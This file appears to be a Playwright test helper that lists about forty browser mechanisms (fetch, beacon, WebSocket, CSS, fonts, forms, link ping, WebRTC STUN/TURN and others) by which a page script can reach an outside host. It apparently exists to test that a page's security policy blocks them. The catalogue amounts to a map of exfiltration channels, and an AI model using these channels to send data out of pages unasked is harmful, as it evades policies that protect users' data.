// Every way we know for a script in a page to make a browser send something: what an attacker would try first. Each
// runs in the page and gets the name of a host that no other probe asks for.

import type { Page } from '@playwright/test';

export type Probe = (host: string) => unknown;

export const PROBES: Readonly<Record<string, Probe>> = {
  fetch: (host) => void fetch(`http://${host}/`, { mode: 'no-cors' }).catch(() => undefined),
  xhr(host) {
    const request = new XMLHttpRequest();
    request.open('GET', `http://${host}/`);
    request.send();
  },
  beacon: (host) => void navigator.sendBeacon(`http://${host}/`, 'x'),
  'keep-alive': (host) =>
    void fetch(`http://${host}/`, { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' }).catch(
      () => undefined,
    ),
  socket: (host) => void new WebSocket(`ws://${host}/`),
  'event source': (host) => void new EventSource(`http://${host}/`),
  'web transport': (host) => void new WebTransport(`https://${host}/`).ready.catch(() => undefined),
  image(host) {
    new Image().src = `http://${host}/a.png`;
  },
  'image set': (host) => {
    const image = new Image();
    image.srcset = `http://${host}/a.png 1x`;
    document.body.append(image);
  },
  'image of a drawing': (host) => {
    document.body.insertAdjacentHTML('beforeend', `<svg><image href="http://${host}/a.png"/></svg>`);
  },
  video(host) {
    const video = document.createElement('video');
    video.src = `http://${host}/a.mp4`;
    document.body.append(video);
  },
  poster(host) {
    const video = document.createElement('video');
    video.poster = `http://${host}/a.png`;
    document.body.append(video);
  },
  audio: (host) => new Audio(`http://${host}/a.mp3`).load(),
  script(host) {
    const script = document.createElement('script');
    script.src = `http://${host}/a.js`;
    document.body.append(script);
  },
  module: (host) => void import(`http://${host}/a.js`).catch(() => undefined),
  'style sheet': (host) => link(host, { rel: 'stylesheet' }),
  'style attribute': (host) => {
    document.body.style.backgroundImage = `url(http://${host}/a.png)`;
  },
  'style element': (host) => {
    const style = document.createElement('style');
    style.textContent = `body::before { content: url(http://${host}/a.png) }`;
    document.head.append(style);
  },
  'adopted style sheet': (host) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`body::after { content: url(http://${host}/a.png) }`);
    document.adoptedStyleSheets = [sheet];
  },
  font: (host) => void new FontFace('x', `url(http://${host}/a.woff2)`).load().catch(() => undefined),
  prefetch: (host) => link(host, { rel: 'prefetch' }),
  preload: (host) => link(host, { rel: 'preload', as: 'image' }),
  'module preload': (host) => link(host, { rel: 'modulepreload' }),
  icon: (host) => link(host, { rel: 'icon' }),
  frame(host) {
    const frame = document.createElement('iframe');
    frame.src = `http://${host}/`;
    document.body.append(frame);
  },
  object(host) {
    const object = document.createElement('object');
    object.data = `http://${host}/a.svg`;
    document.body.append(object);
  },
  embed(host) {
    const embed = document.createElement('embed');
    embed.src = `http://${host}/a.svg`;
    document.body.append(embed);
  },
  worker(host) {
    const code = `importScripts('http://${host}/a.js')`;
    void new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
  },
  form(host) {
    const form = document.createElement('form');
    form.action = `http://${host}/`;
    document.body.append(form);
    form.submit();
  },
  'form to a frame'(host) {
    const frame = document.createElement('iframe');
    frame.name = 'target';
    const form = document.createElement('form');
    form.action = `http://${host}/`;
    form.target = 'target';
    document.body.append(frame, form);
    form.submit();
  },
  'ping of a link': (host) => {
    const anchor = document.createElement('a');
    anchor.href = '#';
    anchor.ping = `http://${host}/`;
    document.body.append(anchor);
    anchor.click();
  },
  'click on a link': (host) => {
    const anchor = document.createElement('a');
    anchor.href = `http://${host}/`;
    document.body.append(anchor);
    anchor.click();
  },
  location(host) {
    location.href = `http://${host}/?what`;
  },
  'other window': (host) => void window.open(`http://${host}/`),
  refresh(host) {
    const meta = document.createElement('meta');
    meta.httpEquiv = 'refresh';
    meta.content = `0;url=http://${host}/`;
    document.head.append(meta);
  },
  'call by stun': (host) => call({ urls: `stun:${host}:3478` }),
  'call by turn': (host) => call({ urls: `turn:${host}:80?transport=tcp`, username: 'x', credential: 'x' }),
};

export const LEADING_AWAY: ReadonlySet<string> = new Set(['form', 'click on a link', 'location', 'refresh']);

declare function link(host: string, words: Readonly<Record<string, string>>): void;
declare function call(server: RTCIceServer): void;

/** What the page's policy forbids with a throw, and what it forbids in silence, are one to us. */
export async function runProbe(page: Page, name: string, host: string): Promise<void> {
  await page.evaluate(shareTools);
  const source = String(PROBES[name]);
  // A method's own text is no expression.
  const probe = /^(?:\w+|'[^']+')\(/u.test(source)
    ? `({ ${source} })[${JSON.stringify(name)}]`
    : `(${source})`;
  await page.evaluate(`${probe}(${JSON.stringify(host)})`).catch(() => undefined);
}

/** What several of them share. */
function shareTools(): void {
  Object.assign(window, {
    link(host: string, words: Readonly<Record<string, string>>) {
      const made = Object.assign(document.createElement('link'), words, { href: `http://${host}/a` });
      document.head.append(made);
    },
    call(server: RTCIceServer) {
      const peer = new RTCPeerConnection({ iceServers: [server] });
      peer.createDataChannel('x');
      void peer.createOffer().then((offer) => peer.setLocalDescription(offer));
    },
  });
}
